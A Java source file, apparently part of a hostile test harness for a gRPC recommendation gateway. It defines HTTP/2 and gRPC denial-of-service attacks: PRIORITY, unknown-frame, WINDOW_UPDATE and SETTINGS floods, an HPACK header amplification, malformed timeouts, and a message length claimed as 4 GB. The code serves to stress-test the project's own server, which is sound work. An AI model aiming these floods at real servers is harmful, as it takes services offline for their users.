package io.recgpt.hostile.attack;

import io.recgpt.gateway.v1.RecommendRequest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

/** What HTTP/2 and gRPC leave to a peer's good will, without a key and with one. */
final class FrameAttacks {
  private static final String STREAM = "/recgpt.gateway.v1.RecommendationService/StreamRecommend";
  private static final int FRAMES = 200_000;
  private static final int WINDOW = 1 << 20;

  /** Of a setting: the size of the table of headers, and that of a stream's window. */
  private static final short TABLE_SIZE = 1;

  private static final short WINDOW_SIZE = 4;

  /** Calls that a caller with a key may have open on a connection, with some to spare. */
  private static final int CALLS = 900;

  private FrameAttacks() {}

  static List<Attack> all() {
    List<Attack> attacks = new ArrayList<>();
    attacks.add(nobody("priorities", FrameAttacks::priorities));
    attacks.add(nobody("frames of kinds that nobody knows", FrameAttacks::unknown));
    attacks.add(nobody("windows widened byte by byte", FrameAttacks::widened));
    attacks.add(nobody("a header of 4,000 letters, named 4,000 times", FrameAttacks::tableOfOne));
    attacks.add(reader("windows changed while 900 calls wait", FrameAttacks::changedWindows));
    attacks.add(reader("tables of headers shrunk and grown", FrameAttacks::changedTables));
    attacks.add(reader("timeouts that are no number", FrameAttacks::wrongTimeouts));
    attacks.add(reader("messages of 4 GB and of unknown encodings", FrameAttacks::wrongMessages));
    return attacks;
  }

  private static Attack nobody(String name, Attack.Assault assault) {
    return new Attack(name, Power.NOBODY, false, assault);
  }

  private static Attack reader(String name, Attack.Assault assault) {
    return new Attack(name, Power.READ, false, assault);
  }

  private static void priorities(Attacker attacker) throws Exception {
    attacker.storm(
        2,
        50,
        FRAMES,
        WINDOW,
        wire -> {
          ByteBuffer priority = ByteBuffer.allocate(5).putInt(0).put((byte) 255);
          wire.frame(Wire.PRIORITY, 0, wire.nextStream(), priority);
        });
  }

  private static void unknown(Attacker attacker) throws Exception {
    attacker.storm(
        2, 50, FRAMES, WINDOW, wire -> wire.frame(0xfa, 0, 0, ByteBuffer.allocate(8).putLong(1)));
  }

  private static void widened(Attacker attacker) throws Exception {
    attacker.storm(
        2,
        50,
        FRAMES,
        WINDOW,
        wire -> wire.frame(Wire.WINDOW_UPDATE, 0, 0, ByteBuffer.allocate(4).putInt(1)));
  }

  /** An entry of the table is a byte to name (RFC 7541, 6.1): 16 MB of headers in 8 kB. */
  private static void tableOfOne(Attacker attacker) throws Exception {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(Wire.headers(AnonymousAttacks.RECOMMEND, null, false));
    Wire.remembered(block, "x", "y".repeat(4_000));
    byte[] first = block.toByteArray();
    for (int i = 0; i < 4_000; i++) {
      block.write(0x80 | 62);
    }
    byte[] all = block.toByteArray();
    attacker.storm(
        2,
        50,
        FRAMES,
        WINDOW,
        wire -> {
          int stream = wire.nextStream();
          wire.frame(Wire.HEADERS, Wire.END_HEADERS, stream, ByteBuffer.wrap(first));
          wire.reset(stream);
          wire.frame(Wire.HEADERS, Wire.END_HEADERS, wire.nextStream(), ByteBuffer.wrap(all));
        });
  }

  private static void changedWindows(Attacker attacker) throws Exception {
    byte[] body = Wire.framed(RecommendRequest.newBuilder().setCount(1).build());
    attacker.repeat(
        2,
        2,
        _ -> {
          Wire wire = attacker.wire(0);
          for (int i = 0; i < CALLS && attacker.goesOn(); i++) {
            int stream = wire.call(STREAM, attacker.bearer(), false);
            wire.data(stream, body, false, 100);
          }
          for (int i = 0; wire.isOpen() && attacker.goesOn(); i++) {
            set(wire, WINDOW_SIZE, i % 2 == 0 ? 1 : 0);
          }
          attacker.count(wire.isOpen() ? "still open" : "closed by the server");
        });
  }

  private static void changedTables(Attacker attacker) throws Exception {
    attacker.storm(
        2,
        50,
        FRAMES,
        WINDOW,
        wire -> {
          set(wire, TABLE_SIZE, 0);
          set(wire, TABLE_SIZE, 4_096);
        });
  }

  private static void set(Wire wire, short setting, int value) throws IOException {
    wire.frame(Wire.SETTINGS, 0, 0, ByteBuffer.allocate(6).putShort(setting).putInt(value));
  }

  private static void wrongTimeouts(Attacker attacker) throws Exception {
    List<String> timeouts = List.of("soon", "-1S", "1", "", "99999999999H", "1S1S", "0n", "١S");
    attacker.storm(
        4,
        50,
        FRAMES,
        WINDOW,
        wire -> {
          int stream = wire.nextStream();
          begin(attacker, wire, stream, "grpc-timeout", timeouts.get(stream / 2 % timeouts.size()));
        });
  }

  /** A call with one more header. */
  private static void begin(Attacker attacker, Wire wire, int stream, String header, String value)
      throws IOException {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(Wire.headers(AnonymousAttacks.RECOMMEND, attacker.bearer(), false));
    Wire.header(block, header, value);
    wire.frame(Wire.HEADERS, Wire.END_HEADERS, stream, ByteBuffer.wrap(block.toByteArray()));
  }

  private static void wrongMessages(Attacker attacker) throws Exception {
    List<String> encodings =
        List.of("zstd", "identity, gzip", "gzip", "deflate", "x".repeat(2_000));
    byte[] huge = ByteBuffer.allocate(5).put((byte) 1).putInt(-1).array();
    attacker.storm(
        4,
        50,
        FRAMES,
        WINDOW,
        wire -> {
          int stream = wire.nextStream();
          begin(
              attacker,
              wire,
              stream,
              "grpc-encoding",
              encodings.get(stream / 2 % encodings.size()));
          wire.data(stream, huge, true, 100);
        });
  }
}
